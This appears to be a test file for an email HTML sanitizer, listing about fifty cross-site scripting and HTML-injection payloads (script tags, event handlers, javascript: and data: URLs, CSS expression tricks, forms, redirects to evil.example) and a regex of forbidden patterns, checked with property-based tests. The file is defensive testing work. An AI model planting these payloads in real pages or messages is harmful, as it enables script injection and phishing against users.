import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type ShowOptions, sanitizeMailHtml } from './sanitize.ts'

const safe = (html: string, options?: ShowOptions) => sanitizeMailHtml(html, options).html

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/api/sign-out">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=p type=password><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x.gif)">x</div>',
  '<div style="background-image:\\75rl(https://evil.example/x)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="border:url(x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x)">x</div>',
  '<div style="color:red;}/*">x</div>',
  '<div id="root" name="location" onclick="alert(1)" class="btn">x</div>',
  '<table background="https://evil.example/x.gif"><tr><td>x</td></tr></table>',
  '<body onload=alert(1) background="https://evil.example/x">x</body>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video src="https://evil.example/x"><source onerror=alert(1)></video>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a title="x" data-mark="self" href="https://ok.example" onmouseover=alert(1)>x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<img srcset="https://evil.example/x.png 2x" src="https://evil.example/y.png">',
  '<p title="a&quot;><script>alert(1)</script>">x</p>',
]

const FORBIDDEN =
  /<(?:script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math|video|template|textarea|noscript|xmp)\b|[\s"'/]on[a-z]+\s*=|href="(?!https?:\/\/|mailto:|tel:)|\ssrc="(?!cid:|data:image\/(?:png|gif|jpe?g|webp|bmp);base64,)|srcset|background="|url\(|expression\(|position\s*:|z-index|behavior|binding|\sid=|\sclass=|\sname=|data-mark/i

/** Only what stands inside tags can do harm; the same characters as text or as a title are words. */
const tagsOf = (html: string) =>
  (html.match(/<[^>]*>/g) ?? []).join('').replace(/ (?:title|alt|lang|dir)="[^"]*"/g, '')

describe('HTML mail', () => {
  it.each(ATTACKS)('is harmless: %s', (attack) => {
    const shown = safe(`<p>before</p>${attack}<p>after</p>`)
    expect(tagsOf(shown)).not.toMatch(FORBIDDEN)
    expect(shown).toContain('before')
  })

  it('is harmless in any mixture, and a second pass changes nothing', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...ATTACKS),
        fc.constantFrom(
          '<div>',
          '</div>',
          '<blockquote type="cite">',
          '</blockquote>',
          '<b title="',
          '">',
          '<!--',
          '-->',
          '<',
        ),
        fc.string({ maxLength: 12 }),
      ),
      { maxLength: 12 },
    )
    fc.assert(
      fc.property(pieces, (parts) => {
        const once = safe(parts.join(''))
        expect(tagsOf(once)).not.toMatch(FORBIDDEN)
        expect(safe(once)).toBe(once)
      }),
      { numRuns: 400 },
    )
  })

  it('keeps what makes a letter readable', () => {
    const html =
      '<div dir="rtl" style="color:#333;font-size:14px"><p align="center"><b>A</b> <i>b</i><br>c</p>' +
      '<table width="600" cellpadding="0"><tr><td bgcolor="#ffffff" style="padding:0 10px">d</td></tr></table><ul><li>e</li></ul></div>'
    expect(safe(html)).toBe(html.replace('<br>', '<br />'))
  })

  it('opens links apart, without telling where from', () => {
    expect(safe('<a href="https://x.example/?a=1&amp;b=2" target="_top">x</a>')).toBe(
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(safe('<a href="mailto:a@x.example">x</a>')).toContain('href="mailto:a@x.example"')
  })

  it('blocks remote images until asked, and finds them again in what was stored', () => {
    const stored = sanitizeMailHtml(
      '<img src="https://x.example/a.png?u=1&amp;v=2" alt="a"><img src="http://x.example/b">',
    )
    expect(stored.blockedImages).toBe(2)
    expect(stored.html).not.toMatch(/\ssrc=/)
    expect(sanitizeMailHtml(stored.html).blockedImages).toBe(2)
    const shown = sanitizeMailHtml(stored.html, { allowRemote: true })
    expect(shown.blockedImages).toBe(0)
    expect(shown.html).toContain(' src="https://x.example/a.png?u=1&amp;v=2"')
    expect(shown.html).toContain('referrerpolicy="no-referrer"')
  })

  it('shows inline images from where they are served, and only those that came with the mail', () => {
    const cidUrl = (id: string) => (id === 'a b@x' ? '/files/1' : null)
    expect(safe('<img src="cid:a%20b@x"><img src="cid:other" alt="o">', { cidUrl })).toBe(
      '<img src="/files/1" /><img alt="o" />',
    )
    expect(safe('<img src="/api/sign-out">')).toBe('<img />')
  })

  it('survives HTML that is nested without end', () => {
    const deep = safe(`${'<div><b>'.repeat(20_000)}words`)
    expect(deep).toContain('words')
  }, 10_000)
})
